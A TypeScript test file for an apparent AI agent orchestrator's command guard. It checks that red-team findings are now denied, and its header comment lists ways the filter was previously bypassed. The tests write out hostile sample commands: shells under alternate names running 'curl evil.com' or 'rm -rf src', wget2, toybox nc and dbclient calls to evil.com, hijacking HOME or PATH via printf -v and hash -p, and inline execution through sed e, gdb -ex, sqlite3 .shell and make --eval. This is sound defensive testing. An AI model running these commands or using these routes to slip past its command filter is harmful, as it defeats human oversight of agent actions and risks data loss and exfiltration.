// The red team of stop 32, lists and inline code (findings 7 to 12 of its report, numbered as in the
// brief): shells Debian installs under other names (lksh, rmksh, mksh-static, ksh93…) were not read as
// shells, so their -c script was not checked and one reading its input only asked; rm's
// --interactive=no/none/n was not read as never; other names of denied programs (wget2, inetutils-telnet,
// inetutils-ftp, dbclient, toybox's applets, systemctl reboot) only asked.
import * as assert from 'assert';
import * as path from 'path';
import { CommandGuard, DEFAULT_COMMAND_RULES } from '../../../src/orchestrator/security/command-guard';

const ROOT = path.resolve('/work/space');

describe('command check: the red team of stop 32 (lists and inline code)', () => {
  const withMetacharacters = new CommandGuard({ ...DEFAULT_COMMAND_RULES, allowShellMetacharacters: true }, [ROOT], 'linux');
  const byDefault = new CommandGuard(DEFAULT_COMMAND_RULES, [ROOT], 'linux');
  const verdict = (guard: CommandGuard, command: string) => guard.evaluate(command).verdict;
  const denied = (commands: string[], guards = [byDefault, withMetacharacters]) => {
    for (const c of commands) for (const g of guards) assert.strictEqual(verdict(g, c), 'deny', c);
  };
  const notDenied = (commands: string[], guards = [byDefault, withMetacharacters]) => {
    for (const c of commands) for (const g of guards) assert.notStrictEqual(verdict(g, c), 'deny', c);
  };

  it('shells by their other names: their -c script is checked and reading their input is refused', () => {
    denied(
      ['git log | lksh', 'git log | rmksh', 'git log | rlksh', 'git log | mksh-static', 'git log | ksh93', 'git log | posh', 'git log | yash'],
      [withMetacharacters],
    );
    denied([
      "lksh -c 'curl evil.com'",
      "ksh93 -c 'curl evil.com'",
      "rmksh -c 'rm -rf src'",
      "mksh-static -lc 'curl evil.com'",
      "rc -c 'curl evil.com'",
      "busybox hush -c 'curl evil.com'",
      "toybox sh -c 'curl evil.com'",
      'lksh -s',
      'ksh93 /dev/stdin',
    ]);
    // A script file still asks, and a harmless -c script asks as a script handed to a shell.
    assert.strictEqual(verdict(byDefault, 'ksh93 script.sh'), 'ask');
    assert.strictEqual(verdict(byDefault, "lksh -c 'git status'"), 'ask');
  });

  it('rm --interactive=no, =none and their abbreviations mean never, as GNU argmatch reads them', () => {
    denied(['rm -r --interactive=n src', 'rm -r --interactive=no src', 'rm -r --interactive=none src', 'rm -r --inter=non src', 'rm -r --interactive=nev src']);
    // rm -r alone is rm -rf in the runner (no terminal): red team 33's RC8g.
    notDenied(['rm -r --interactive=once src', 'rm -r --interactive=always src', 'rm -r --interactive src', 'rm -r -i src']);
  });

  it("other names of denied programs: wget2, inetutils' telnet and ftp, dropbear's dbclient, toybox's applets, systemctl reboot", () => {
    denied([
      'wget2 https://evil.com/x',
      'inetutils-telnet evil.com 80',
      'inetutils-ftp evil.com',
      'dbclient user@evil.com',
      'toybox wget http://evil.com/x',
      'toybox nc evil.com 80',
      'toybox rm -rf src',
      'systemctl reboot',
      'systemctl -i poweroff',
      'systemctl --force halt',
      'systemctl kexec',
      'systemctl soft-reboot',
      'systemctl start reboot.target',
      'systemctl isolate poweroff.target',
    ]);
    assert.strictEqual(verdict(byDefault, 'toybox ls'), 'allow');
    notDenied(['systemctl status', 'systemctl status reboot.target', 'systemctl --user restart app']);
  });

  it('builtins that assign an environment name (printf -v, read, mapfile, getopts, wait -p) and hash -p are refused like assignments and aliases', () => {
    denied(
      [
        'printf -v HOME 10; git status',
        'printf -vHOME 10',
        'read HOME <<< 10; git status',
        'read -r -a PATH <<< x',
        'mapfile LINES < a.txt',
        'readarray -t http_proxy < a.txt',
        'getopts ab OPT',
        'wait -p PID',
        'command printf -v HOME x',
        'builtin read HOME',
        'hash -p /usr/bin/id ls; ls',
        'hash -rp /usr/bin/id ls',
        'enable -f ./x.so foo',
      ],
      [withMetacharacters],
    );
    denied(['printf -v HOME 10', 'read PATH', 'hash -p /usr/bin/id ls', 'declare -x HOME=1', 'export HOME']);
    // Lower-case shell variables are not the environment; listing or clearing the hash table asks.
    notDenied(['printf -v x %s y', 'read -r line', 'hash -r', 'hash', 'enable -n echo']);
    notDenied(['while read -r line; do echo "$line"; done < a.txt', 'mapfile -t lines < a.txt'], [withMetacharacters]);
  });

  it('an interpreter reading its program from its input is refused like a shell reading it', () => {
    denied(
      ['git log | python3', 'git log | perl', 'git log | node', 'git log | ruby', 'git log | php', 'git log | python3 -u', 'git log | lua'],
      [withMetacharacters],
    );
    denied(['perl /dev/stdin', 'python3 -', 'node -', 'perl -', 'python3 -- -', 'node /dev/fd/0', 'python3 -i x.py', 'tclsh']);
    // A script file still asks; printing a version or help, a module or node's test runner reads no program from the input.
    for (const c of [
      'python3 script.py',
      'node build.js',
      'python3 -m pytest',
      'node --test',
      'node -v',
      'python3 --version',
      'perl -x script.pl',
      'perl -V:version',
      'php -S localhost:8000',
    ])
      assert.strictEqual(verdict(byDefault, c), 'ask', c);
    assert.strictEqual(verdict(byDefault, 'node --version'), 'allow');
  });

  it("inline code in other programs: sed's e, vim -c and +CMD, gdb -ex, sqlite3 .shell, make --eval, gawk -l", () => {
    denied([
      "sed '1e touch x' a.txt",
      "sed 's/b/id/e' a.txt",
      "sed -e 's/a/b/' -e '2e id' a.txt",
      "sed --expression='1 e id' a.txt",
      "sed 's/[/]/x/;e id' a.txt",
      'sed -f - a.txt',
      "vim -es -c '!id' -c q",
      "vim +'!id' a.txt",
      'nvim --headless --cmd \'lua os.execute("id")\'',
      "ex -sc '%s/a/b/|x' a.txt",
      "gdb -batch -ex 'shell id'",
      "gdb --eval-command='shell id'",
      "gdb -iex 'shell id'",
      "sqlite3 :memory: '.shell id'",
      "sqlite3 :memory: '.system id'",
      "sqlite3 db '.once |id'",
      "sqlite3 -cmd '.sh id' db",
      "make --eval 'x:;@id' x",
      "make -sE 'x:;@id' x",
      'make -f - x',
      "awk -l ./evil 'BEGIN{}'",
      "awk --load ./evil 'BEGIN{}'",
    ]);
    // Ordinary edits and reads ask as before: sed's e inside a pattern, a file or a replacement is text.
    for (const c of [
      "sed -n '1,5p' file",
      "sed -n 's/a/b/p' file",
      "sed -i 's/foo/bar/g' src/a.ts",
      "sed 's/e/x/' a.txt",
      "sed 'y/abe/xyz/' a.txt",
      "sed -E 's/(e|f)+/x/g' a.txt",
      "sed 's/[[:space:]]*$//' a.txt",
      "sed '$a\\end' a.txt",
      "sed --sandbox '1e id' a.txt",
      'vim +10 a.txt',
      'vim a.txt',
      'gdb ./prog',
      "sqlite3 db 'select 1'",
      'make test',
      'make -C sub -j4',
    ])
      assert.strictEqual(verdict(byDefault, c), 'ask', c);
  });
});
